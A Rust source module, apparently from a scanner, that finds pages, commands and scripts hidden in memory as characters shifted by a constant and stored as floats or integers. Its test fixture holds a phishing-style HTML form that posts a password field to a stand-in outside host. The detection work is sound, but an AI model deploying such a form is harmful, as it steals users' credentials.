//! Text that lies in memory as numbers from which something has to be taken away first: characters as floats
//! or integers, all of them as much too large or too small.
//!
//! Such numbers stand close together, many of them different. What has to be taken away is tried: few ways
//! are left if all of them are to be characters of text.
//!
//! Costs a pass over what changed in memory for each width, as far as there is room.

use super::{
    fs::Contents,
    limits::{RETURNED_SCAN, SHIFTED_LEAST, SHIFTED_SCANNED},
};

/// Different numbers that a text has at least.
const DIFFERENT: usize = 12;
/// The first and the last character of text without accents.
const FIRST: i64 = 9;
const LAST: i64 = 126;
/// What is no larger than this is an integer, and no float.
const INTEGER: u32 = 1 << 20;

/// Looks for such text.
#[derive(Debug, Default)]
pub(super) struct Shifted {
    scanned: usize,
}

impl Shifted {
    /// The pages, commands and scripts in a part of memory.
    pub(super) fn look(&mut self, memory: &[u8]) -> Vec<Vec<u8>> {
        let mut found = Vec::new();
        if self.scanned + memory.len() <= SHIFTED_SCANNED {
            self.scanned += memory.len();
            found.extend(within(
                memory.as_chunks::<8>().0.iter().map(|bytes| whole(f64::from_le_bytes(*bytes))),
            ));
            found.extend(within(memory.as_chunks::<4>().0.iter().map(|bytes| {
                whole(f32::from_le_bytes(*bytes).into())
                    .filter(|_| i32::from_le_bytes(*bytes).unsigned_abs() > INTEGER)
            })));
            found.extend(within(
                memory.as_chunks::<4>().0.iter().map(|bytes| Some(i32::from_le_bytes(*bytes).into())),
            ));
            found.extend(within(
                memory.as_chunks::<2>().0.iter().map(|bytes| Some(u16::from_le_bytes(*bytes).into())),
            ));
        }
        found
    }
}

/// The whole number that a float is.
fn whole(value: f64) -> Option<i64> {
    (value.fract() == 0.0 && value.abs() < 1e9).then_some(value as i64)
}

/// The texts in runs of numbers.
fn within(numbers: impl Iterator<Item = Option<i64>>) -> Vec<Vec<u8>> {
    let (mut found, mut run) = (Vec::new(), Run::default());
    for number in numbers.chain([None]) {
        if let Some(number) = number.filter(|number| *number != 0)
            && run.takes(number)
        {
            continue;
        }
        found.extend(run.text());
        run = Run::default();
        if let Some(number) = number.filter(|number| *number != 0) {
            run.takes(number);
        }
    }
    found
}

/// Numbers that stand close together.
#[derive(Default)]
struct Run {
    numbers: Vec<i64>,
    least: i64,
    most: i64,
}

impl Run {
    /// Takes another number, if it is close to the others.
    fn takes(&mut self, number: i64) -> bool {
        let (least, most) = match self.numbers.is_empty() {
            true => (number, number),
            false => (self.least.min(number), self.most.max(number)),
        };
        if most - least > LAST - FIRST || self.numbers.len() >= RETURNED_SCAN {
            return false;
        }
        (self.least, self.most) = (least, most);
        self.numbers.push(number);
        true
    }

    /// What they are if as much is taken away from each as makes something of them. What are characters as
    /// they stand is found elsewhere.
    fn text(&self) -> Option<Vec<u8>> {
        if self.numbers.len() < SHIFTED_LEAST || self.least >= FIRST && self.most <= LAST {
            return None;
        }
        let different: std::collections::BTreeSet<_> = self.numbers.iter().collect();
        if different.len() < DIFFERENT {
            return None;
        }
        let by = (self.most - LAST)..=(self.least - FIRST);
        by.map(|by| self.numbers.iter().map(|number| (number - by) as u8).collect::<Vec<u8>>())
            .filter(|text| text.iter().all(|byte| matches!(byte, 9 | 10 | 13 | 32..=126)))
            .find(|text| Contents::of_handed(text).is_some_and(|contents| contents != Contents::Archive))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const PAGE: &str =
        "<form action='https://c.example.invalid/in'>Password <input type='password' name='p'></form>";
    const PROSE: &str = "The beds are planted, and the water tank was delivered on Monday, says the report.";

    #[test]
    fn what_has_to_be_taken_away_is_found() {
        let numbers =
            |text: &str, by: i64| text.bytes().map(move |byte| i64::from(byte) + by).collect::<Vec<_>>();
        for by in [1000, -500, 7] {
            let floats: Vec<u8> =
                numbers(PAGE, by).iter().flat_map(|number| (*number as f64).to_le_bytes()).collect();
            let words: Vec<u8> =
                numbers(PAGE, by).iter().flat_map(|number| (*number as i32).to_le_bytes()).collect();
            for memory in [floats, words] {
                let memory = [vec![0; 64], memory, vec![0; 64]].concat();
                let found = Shifted::default().look(&memory);
                assert!(found.iter().any(|text| text == PAGE.as_bytes()), "{by}");
            }
        }
        let prose: Vec<u8> =
            numbers(PROSE, 1000).iter().flat_map(|number| (*number as f64).to_le_bytes()).collect();
        assert_eq!(Shifted::default().look(&prose), Vec::<Vec<u8>>::new());
    }
}
